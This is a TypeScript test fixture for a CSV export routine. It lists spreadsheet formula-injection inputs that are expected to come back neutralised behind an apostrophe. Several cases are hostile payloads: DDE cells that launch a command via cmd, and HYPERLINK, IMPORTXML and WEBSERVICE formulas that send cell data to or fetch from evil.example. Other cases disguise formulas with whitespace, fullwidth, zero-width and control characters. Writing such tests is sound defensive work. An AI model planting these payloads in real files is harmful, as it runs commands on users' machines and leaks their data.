import { plain, type Case } from './case.ts'

/** Class K: texts that a spreadsheet would calculate, send or run, as cells of a CSV file of ours. Each comes back as the text it was, behind an apostrophe. */
export const cellCases: Case[] = [
  ...plain('cell', 'harmless', ['=HYPERLINK("http://evil.example?x="&A1,"click")', '=1+1'], ['CVE-2026-78209']),
  ...plain('cell', 'harmless', [' =1+1', '   =cmd|\' /C calc\'!A0', '\u00a0=1+1', '\u3000=1+1'], ['CVE-2026-9673']),
  ...plain('cell', 'harmless', [
    '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\r\n=1', '＝1+1', '＋1', '－1', '＠SUM(A1)', '=', '+', '-', '@', '=cmd|\' /C calc\'!A0', '=DDE("cmd";"/C calc";"x")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")',
    '+81-3-1234-5678', '-2+3+cmd|\' /C calc\'!A0', '"=1+1"', '","=1+1', '"\r\n=1+1', '";=1+1', ';=1+1', 'x\n=1+1', 'x\r\n=1', '\u200b=1+1', '\ufeff=1+1', '\u0000=1+1', '\u2060=1+1', '\u00ad=1+1', '\u202e=1+1', '\u0001=1+1', '%3D1+1', '&equals;1+1', '--1', '=-1', '+-1', '-1e5', '-０', '\u22121+1', '∕=1', '|calc', '\'=1+1', 'x'.repeat(40_000), '\ud800=1'
  ])
]
